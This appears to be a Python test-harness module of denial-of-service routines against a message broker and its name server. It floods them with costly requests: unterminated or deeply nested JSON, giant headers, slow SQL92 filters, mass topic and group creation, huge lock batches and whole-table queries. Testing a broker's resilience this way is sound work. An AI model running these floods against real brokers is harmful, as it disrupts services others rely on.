"""Attacks on CPU time: requests that cost much more than their size."""

import itertools
import json
import random
from collections.abc import Iterator

from bench.hostile import frames
from bench.hostile.peer import NEIGHBOUR_TOPIC, Peer

BODY_CODES = (34, 41, 42, 46, 18, 200, 225, 400, 401, frames.BATCH_ACK, 222)
"""The broker's request codes with a JSON body."""


def json_unterminated(peer: Peer) -> None:
    """Bodies whose first string never ends, for every code of the broker with a JSON body."""
    bodies = [b'{"' + b'\\"' * 20_000, b'{"a":"' + b"\\\\" * 20_000, b"{0" + b" " * 40_000, b"{{" + b'"a",' * 10_000]
    codes = itertools.cycle(BODY_CODES)
    peer.flood(
        peer.broker, (frames.frame(next(codes), {"group": "g", "topic": "t"}, body) for body in itertools.cycle(bodies))
    )


def json_unterminated_namesrv(peer: Peer) -> None:
    """Bodies whose first string never ends, for the name server's registrations, versions and config."""
    body = b'{"' + b'\\"' * 20_000

    def requests() -> Iterator[bytes]:
        while True:
            yield frames.registration("hostile", "127.0.0.1:1", body)
            yield frames.registration("hostile", "127.0.0.1:1", body, version=100)
            fields = {"brokerName": "hostile", "brokerAddr": "127.0.0.1:1", "clusterName": "c", "brokerId": 0}
            yield frames.frame(322, fields, body)
            yield frames.frame(318, {}, body)

    peer.flood(peer.namesrv, requests())


def json_deep(peer: Peer) -> None:
    """Headers and bodies of a hundred thousand brackets."""
    deep = (b"[" * 100_000, b'{"a":' * 50_000, b"[" * 50_000 + b"]" * 50_000)

    def requests() -> Iterator[bytes]:
        for text, code in zip(itertools.cycle(deep), itertools.cycle(BODY_CODES), strict=False):
            yield frames.frame(code, {}, text)
            yield frames.raw(b'{"code":34,"extFields":{"a":' + text + b"}}")

    peer.flood(peer.broker, requests())


def headers_huge(peer: Peer) -> None:
    """Headers of sixty thousand fields, and of one field of a MB."""
    many = {f"f{i}": "" for i in range(60_000)}

    def requests() -> Iterator[bytes]:
        while True:
            yield frames.frame(frames.MAX_OFFSET, many | {"topic": NEIGHBOUR_TOPIC, "queueId": 0})
            yield frames.binary(frames.MAX_OFFSET, many | {"topic": NEIGHBOUR_TOPIC, "queueId": 0})
            yield frames.frame(frames.MAX_OFFSET, {"topic": NEIGHBOUR_TOPIC, "queueId": 0, "x": "y" * 1_000_000})
            yield frames.frame(frames.MAX_OFFSET, {"topic": NEIGHBOUR_TOPIC, "queueId": "9" * 500_000})

    peer.flood(peer.broker, requests())


def heartbeat_groups(peer: Peer) -> None:
    """Heartbeats with a thousand new groups each."""
    numbers = itertools.count()
    groups = ([f"hostile-{next(numbers)}" for _ in range(1000)] for _ in itertools.count())
    peer.flood(peer.broker, (frames.heartbeat("hostile", row) for row in groups))


def topics_auto_created(peer: Peer) -> None:
    """Messages, each to a topic that does not exist yet."""
    peer.flood(peer.broker, (frames.send(f"hostile-{number}") for number in itertools.count()))


def topics_by_hand(peer: Peer) -> None:
    """UPDATE_AND_CREATE_TOPIC of new topics, and of one topic with changing numbers of queues."""
    ext = {"defaultTopic": "TBW102", "perm": 6, "topicFilterType": "SINGLE_TAG", "topicSysFlag": 0, "order": "false"}

    def requests() -> Iterator[bytes]:
        for number in itertools.count():
            queues = {"readQueueNums": 1 + number % 64, "writeQueueNums": 1 + number % 64}
            yield frames.frame(frames.CREATE_TOPIC, ext | queues | {"topic": f"hostile-{number}"})
            yield frames.frame(frames.CREATE_TOPIC, ext | queues | {"topic": "hostile"})

    peer.flood(peer.broker, requests())


def groups_by_hand(peer: Peer) -> None:
    """UPDATE_AND_CREATE_SUBSCRIPTIONGROUP of new groups."""
    bodies = (json.dumps({"groupName": f"hostile-{number}"}).encode() for number in itertools.count())
    peer.flood(peer.broker, (frames.frame(200, {}, body) for body in bodies))


def offsets_made_up(peer: Peer) -> None:
    """Consumer offsets of groups and queues that do not exist."""

    def fields(number: int) -> dict[str, object]:
        topic = (NEIGHBOUR_TOPIC, f"hostile-{number}")[number % 2]
        return {"consumerGroup": f"hostile-{number}", "topic": topic, "queueId": number % 1000, "commitOffset": number}

    peer.flood(peer.broker, (frames.binary(frames.UPDATE_OFFSET, fields(n), flag=n & 2) for n in itertools.count()))


def expressions_slow(peer: Peer) -> None:
    """SQL92 expressions that are slow to parse, compile or evaluate, each different."""
    makers = (
        lambda n: f"a={'-' * 16_000}{n}",
        lambda n: "(" * 8_000 + f"a={n}" + ")" * 8_000,
        lambda n: " OR ".join(f"a{n}_{i} = '{i}'" for i in range(1_000)),
        lambda n: "NOT " * 4_000 + f"a={n}",
        lambda n: f"a IN ({','.join(repr(str(n + i)) for i in range(3_000))})",
        lambda n: f"a = {'9' * 16_000}{n}",
        lambda n: f"a = '{'x' * 16_000}{n}",
    )

    def requests() -> Iterator[bytes]:
        for number in itertools.count():
            text = makers[number % len(makers)](number)
            yield frames.heartbeat("hostile", [f"hostile-{number % 10}"], NEIGHBOUR_TOPIC, text, "SQL92")
            fields = frames.pull(NEIGHBOUR_TOPIC, 0, 0, "hostile", subscription=text, expressionType="SQL92")
            yield frames.frame(frames.PULL, fields)

    peer.flood(peer.broker, requests())


def filters_costly(peer: Peer) -> None:
    """Pulls, held ones too, and pops by an expression of 300 terms on messages with 30 KB of properties."""
    properties = "".join(f"k{i}\x01{'v' * 90}\x02" for i in range(310))

    def requests() -> Iterator[bytes]:
        for number in itertools.count():
            terms = " OR ".join([f"z{number % 50}='x'"] * 299)
            sql = {"subscription": terms, "expressionType": "SQL92"}
            yield frames.send("Hostile", properties=properties)
            yield frames.frame(frames.PULL, frames.pull("Hostile", 0, 0, f"h{number % 50}", **sql))
            yield frames.frame(frames.PULL, frames.pull("Hostile", 0, number + 1, f"h{number % 50}", 30_000, **sql))
            pop = {"consumerGroup": f"p{number % 50}", "topic": "Hostile", "queueId": -1, "pollTime": 30_000, "bornTime": 0}
            pop |= {"maxMsgNums": 32, "invisibleTime": 60_000, "initMode": 0, "exp": terms, "expType": "SQL92"}
            yield frames.frame(frames.POP, pop)

    peer.flood(peer.broker, requests())


def queues_locked(peer: Peer) -> None:
    """LOCK_BATCH_MQ of ten thousand made-up queues at once."""

    def requests() -> Iterator[bytes]:
        for number in itertools.count():
            queues = [{"brokerName": "broker-a", "queueId": i, "topic": f"h{number}"} for i in range(10_000)]
            body = {"consumerGroup": f"hostile-{number}", "clientId": "hostile", "mqSet": queues}
            yield frames.frame(41, {}, json.dumps(body).encode())

    peer.flood(peer.broker, requests())


def queries(peer: Peer) -> None:
    """Queries by key over all time, and by time, in the neighbour's topic."""

    def requests() -> Iterator[bytes]:
        span = {"beginTimestamp": 0, "endTimestamp": 1 << 50, "maxNum": 64}
        for number in itertools.count():
            key = ("TagA", f"{number}", "x" * 1_000)[number % 3]
            yield frames.frame(frames.QUERY, span | {"topic": NEIGHBOUR_TOPIC, "key": key, "maxNum": 1 << 30})
            fields = {"topic": NEIGHBOUR_TOPIC, "queueId": number % 4, "timestamp": random.getrandbits(42)}
            yield frames.binary(frames.SEARCH_OFFSET, fields)
            yield frames.binary(33, {"offset": random.getrandbits(20)})

    peer.flood(peer.broker, requests())


def tables_asked(peer: Peer) -> None:
    """Requests of a hundred bytes that return whole tables, and statistics of every group."""
    codes = itertools.cycle((21, 43, 45, 201, 28, 26, 328, 317, 204, 203, 202, 208, 61, 60))
    ext = {"topic": NEIGHBOUR_TOPIC, "consumerGroup": "NeighbourGroup", "producerGroup": "p", "group": "NeighbourGroup"}
    peer.flood(peer.broker, (frames.frame(code, ext) for code in codes))


def messages_many_keys(peer: Peer) -> None:
    """Messages with more than three thousand keys each, for the index."""

    def requests() -> Iterator[bytes]:
        for number in itertools.count():
            keys = " ".join(f"{number}.{i}" for i in range(3_500))
            yield frames.send("Hostile", properties=f"KEYS\x01{keys[:32_000]}\x02UNIQ_KEY\x01{number}\x02")

    peer.flood(peer.broker, requests())


def batches_of_nothing(peer: Peer) -> None:
    """Batches of many empty members, half of them truncated."""
    member = b"\0\0\0\x16" + bytes(16) + b"\0\0"

    def requests() -> Iterator[bytes]:
        for number in itertools.count():
            body = member * 10_000
            yield frames.send("Hostile", body[: len(body) - number % 2 * random.randrange(1, len(body))], m="true")

    peer.flood(peer.broker, requests())


def delays(peer: Peer) -> None:
    """Delayed messages for all valid times, and some invalid ones."""

    def requests() -> Iterator[bytes]:
        names = ("DELAY", "TIMER_DELAY_MS", "TIMER_DELAY_SEC", "TIMER_DELIVER_MS", "__STARTDELIVERTIME")
        values = (1, 18, 10**6, -1, 10**18, "1e9", "9" * 5_000, 1_000, 2**63)
        for number, (name, value) in enumerate(itertools.cycle(itertools.product(names, values))):
            yield frames.send("Hostile", properties=f"{name}\x01{value}\x02UNIQ_KEY\x01{number}\x02")

    peer.flood(peer.broker, requests())
